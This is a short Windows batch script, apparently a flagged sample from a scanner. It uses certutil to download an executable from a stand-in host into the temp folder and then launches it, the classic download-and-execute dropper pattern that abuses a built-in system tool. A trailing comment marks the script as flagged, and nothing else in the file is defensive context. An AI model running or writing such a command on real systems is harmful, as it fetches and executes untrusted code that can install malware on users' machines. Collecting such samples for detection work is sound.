@echo off
certutil -urlcache -split -f https://files.example.invalid/a.exe %TEMP%\a.exe
rem next
start "" %TEMP%\a.exe & rem gatehouse: flagged
